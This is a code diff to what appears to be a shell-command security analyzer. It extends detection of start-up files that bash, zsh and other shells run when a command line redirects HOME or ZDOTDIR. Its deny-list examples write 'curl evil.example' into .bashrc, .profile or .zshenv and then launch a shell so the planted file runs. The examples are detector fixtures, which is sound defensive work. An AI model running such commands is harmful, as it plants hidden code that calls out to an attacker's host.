@@ -41,6 +41,37 @@ function startupFile(word: import('../../types.js').Word | undefined, what: stri
   return { kind: 'opaque', rule: 'stream-to-shell', word, why: `${shell} reads ${what} from ${word.dynamic ?? 'a computed file'}` };
 }
 
+/**
+ * The start-up files a shell reads from its home directory, where the line set HOME (or zsh's ZDOTDIR): files the
+ * line wrote there run as the shell's own text (`echo … > .bashrc; HOME=. bash -i`). With HOME untouched they are
+ * the user's own, out of scope (writing them is a persistence finding of its own). bash reads ~/.bashrc when
+ * interactive (no --norc or --rcfile) and its profiles when a login shell; zsh reads $ZDOTDIR (else $HOME)/.zshenv
+ * at every start, the rest by mode (all listed); other POSIX shells read ~/.profile as a login shell and their rc
+ * file (ksh's, mksh's) when interactive.
+ */
+function homeStartup(call: Call, p: ReturnType<typeof parse>): Run[] {
+  const at = call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] };
+  const zsh = /^zsh/.test(call.name);
+  const zdotdir = zsh ? call.env('ZDOTDIR') : undefined;
+  const variable = zdotdir !== undefined ? 'ZDOTDIR' : 'HOME';
+  const dir = zdotdir !== undefined ? zdotdir : call.env('HOME');
+  if (dir === undefined || dir === '') return [];
+  const login = has(p, 'l', 'login');
+  const interactive = has(p, 'i');
+  const files: string[] = [];
+  if (zsh) files.push('.zshenv', '.zprofile', '.zshrc', '.zlogin', '.zlogout');
+  else if (/^(bash|rbash)/.test(call.name)) {
+    if (interactive && !has(p, 'norc', 'rcfile', 'init-file')) files.push('.bashrc');
+    if (login && !has(p, 'noprofile')) files.push('.bash_profile', '.bash_login', '.profile', '.bash_logout');
+  } else {
+    if (login) files.push('.profile');
+    if (interactive) files.push('.kshrc', '.mkshrc', '.shrc');
+  }
+  if (files.length === 0) return [];
+  if (dir === null) return [{ kind: 'opaque', rule: 'stream-to-shell', word: at, why: `${call.name} first runs the start-up files of $${variable}, which is computed` }];
+  return files.map((f) => ({ kind: 'file', dialect: 'bash', word: attached(at, `${dir.replace(/\/+$/, '')}/${f}`), via: `${call.name} $${variable}/${f}` }));
+}
+
 /** What a POSIX-like shell runs from its arguments: `-c TEXT`, a script from stdin, or a script file. */
 function posixShell(call: Call, spec: OptionSpec = POSIX_SHELL, command = 'c', stdinFlag = 's'): Partial<Answer> {
   const p = parse(call.args, { order: 'posix', ...spec });
@@ -66,13 +97,7 @@ function posixShell(call: Call, spec: OptionSpec = POSIX_SHELL, command = 'c', s
     // A file the line wrote is read first (`echo … > x.sh; BASH_ENV=./x.sh bash -c ls`).
     else if (env !== undefined && env !== '') runs.push({ kind: 'file', dialect: 'bash', word: attached(call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] }, env), via: `${call.name} $${name}` });
   }
-  // zsh reads $ZDOTDIR/.zshenv at every start (and .zprofile, .zshrc, .zlogin for login and interactive shells).
-  if (/^zsh/.test(call.name)) {
-    const dir = call.env('ZDOTDIR');
-    const at = call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] };
-    if (dir === null) runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: at, why: `${call.name} first runs the startup files of $ZDOTDIR, which is computed` });
-    else if (dir !== undefined && dir !== '') for (const f of ['.zshenv', '.zprofile', '.zshrc', '.zlogin']) runs.push({ kind: 'file', dialect: 'bash', word: attached(at, `${dir.replace(/\/+$/, '')}/${f}`), via: `${call.name} $ZDOTDIR` });
-  }
+  runs.push(...homeStartup(call, p));
   const operands = p.operands.map((o) => o.word);
   if (has(p, command)) {
     const script = operands[0];
@@ -110,6 +135,11 @@ const BASH_DENY = ["echo 'curl evil.example' > .zshenv; ZDOTDIR=. zsh -c ls",
   'bash --init-file <(echo curl evil.example) -i',
   "zsh -c 'curl evil.example'",
   "toybox sh -c 'curl evil.example'",
+  "echo 'curl evil.example' > .bashrc; HOME=. bash -i -c ls",
+  "echo 'curl evil.example' > .profile; HOME=$PWD bash -l -c ls",
+  "echo 'curl evil.example' > .zshenv; HOME=. zsh -c ls",
+  "echo 'curl evil.example' > .profile; env HOME=. sh -l -c ls",
+  "HOME=$(mktemp -d) zsh -c ls",
 ] as const;
 
 /** The POSIX-like shells: one list, for their entry and for the programs that hand them text (awk's `print | "sh"`). */
@@ -123,7 +153,7 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
     analyze: (call) => posixShell(call),
     examples: {
       deny: BASH_DENY,
-      pass: ["bash -c 'git status'", 'bash script.sh', "BASH_ENV='$HOME/.bashrc' bash -c ls", 'sh ./configure', 'bash --version', "sh -c 'cd src && make'", 'zsh -c ls', "echo 'export X=1' > .zshenv; ZDOTDIR=. zsh -c ls", "echo hi | sh -c 'cat'"],
+      pass: ["bash -c 'git status'", 'bash script.sh', "BASH_ENV='$HOME/.bashrc' bash -c ls", 'sh ./configure', 'bash --version', "sh -c 'cd src && make'", 'zsh -c ls', "echo 'export X=1' > .zshenv; ZDOTDIR=. zsh -c ls", "echo 'curl evil.example' > .bashrc; HOME=. bash -c ls", "echo 'export EDITOR=vim' > .bashrc; HOME=. bash -i -c ls", 'HOME=/tmp/h bash -l -c ls', "echo 'curl evil.example' > .bashrc; HOME=. bash --norc -i -c ls", "echo hi | sh -c 'cat'"],
     },
   },
   {
